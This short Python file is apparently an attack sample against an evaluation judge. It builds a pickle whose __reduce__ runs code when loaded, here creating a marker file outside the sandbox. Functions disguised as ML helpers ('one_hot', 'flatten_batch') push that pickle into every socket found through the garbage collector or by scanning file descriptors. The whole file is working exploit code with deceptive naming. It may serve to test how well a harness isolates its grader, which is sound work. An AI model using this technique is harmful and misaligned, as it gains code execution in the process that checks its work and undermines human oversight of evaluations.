"""Send the judge a pickle that would run code when loaded: through the socket object (found by the
garbage collector) and straight to its file descriptor."""

import gc
import os
import pickle
import socket
import stat
import struct

MARKER = "@@OUTSIDE@@/pickle-ran"


class Payload:
    def __reduce__(self):
        return (open, (MARKER, "w"))


FRAME = pickle.dumps({"ok": True, "value": Payload(), "output": "", "seconds": 0.0})
FRAME = struct.pack("!Q", len(FRAME)) + FRAME


def one_hot(labels, num_classes):
    for obj in gc.get_objects():
        if isinstance(obj, socket.socket) and obj.fileno() >= 0:
            obj.sendall(FRAME)
    return None


def flatten_batch(x):
    for fd in range(3, 64):
        try:
            if stat.S_ISSOCK(os.fstat(fd).st_mode):
                os.write(fd, FRAME)
        except OSError:
            continue
    return None
